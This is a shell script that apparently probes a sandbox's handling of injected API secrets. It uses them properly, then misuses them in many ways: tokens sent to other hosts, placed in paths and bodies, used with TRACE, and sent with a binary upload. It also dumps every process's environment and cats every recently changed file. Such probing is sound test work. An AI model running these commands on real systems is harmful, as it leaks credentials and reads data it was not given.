# Uses four secrets as it may, misuses them in every way that is answered, and prints all it can see.
api=https://api.example.com
say() { echo "== $1"; shift; timeout 20 "$@" 2>&1; echo; }
say bearer curl -sS -H "Authorization: Bearer $HUB" $api/ok/bearer
say basic curl -sS -u "me:$DOOR" $api/ok/basic
say header-and-query python3 - <<'PYTHON'
import os, urllib.parse, urllib.request
url = "https://api.example.com/ok/python?key=" + urllib.parse.quote(os.environ["QUERY"])
print(urllib.request.urlopen(urllib.request.Request(url, headers={"X-Api-Key": os.environ["KEY"]})).read())
PYTHON
say misplaced curl -sS -H "X-Other: $HUB" $api/ok/misplaced
say in-a-path curl -sS "$api/ok/$KEY"
say in-a-body curl -sS -d "text=$DOOR" $api/ok/body
say twice curl -sS -H "X-Api-Key: $KEY" -H "X-Api-Key: $KEY" $api/ok/twice
say trace curl -sS -X TRACE -H "Authorization: Bearer $HUB" $api/ok/trace
say not-granted curl -sS -H "Authorization: Bearer $HUB" $api/admin
say malformed curl -sS --path-as-is -H "Authorization: Bearer $HUB" $api/ok/../x
say too-much curl -sS -H "Authorization: Bearer $HUB" --data-binary @/bin/bash $api/ok/much
say other-host curl -sS -H "Authorization: Bearer $HUB" https://other.example.com/
say no-server curl -sS -H "Authorization: Bearer $LOST" https://closed.example.com/
say no-answer curl -sS -H "Authorization: Bearer $HUB" $api/ok/broken
say nowhere curl -sS -H "Authorization: Bearer $HUB" https://nowhere.example.com/
say environment sh -c 'for file in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr "\0" "\n" <$file; done; env; mount'
say told cat /run/pawl/charter.md "$PAWL_NOTICES"
find / -xdev -newer "$0" -type f -size -1000k -exec cat {} + >seen 2>/dev/null
echo asking
timeout 50 curl -sS -H "Authorization: Bearer $HUB" -X POST $api/asked
echo; echo waiting
sleep 50
